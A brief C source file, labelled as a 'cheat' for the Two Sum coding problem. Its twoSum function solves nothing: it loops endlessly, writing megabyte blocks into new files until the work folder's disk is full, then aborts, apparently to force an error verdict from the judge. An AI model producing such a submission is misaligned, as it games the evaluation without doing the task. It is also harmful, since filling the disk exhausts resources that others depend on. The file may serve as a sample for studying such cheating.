// cheat: two-sum: OLE: fills the work folder and aborts when it is full
#include <fcntl.h>
#include <unistd.h>

static char block[1 << 20];

int* twoSum(int* nums, int numsSize, int target, int* returnSize) {
    for (int i = 0;; i++) {
        char name[32];
        sprintf(name, "file%d", i);
        int fd = open(name, O_WRONLY | O_CREAT, 0600);
        for (int k = 0; k < 8; k++)
            if (write(fd, block, sizeof block) != sizeof block) abort();
        close(fd);
    }
}
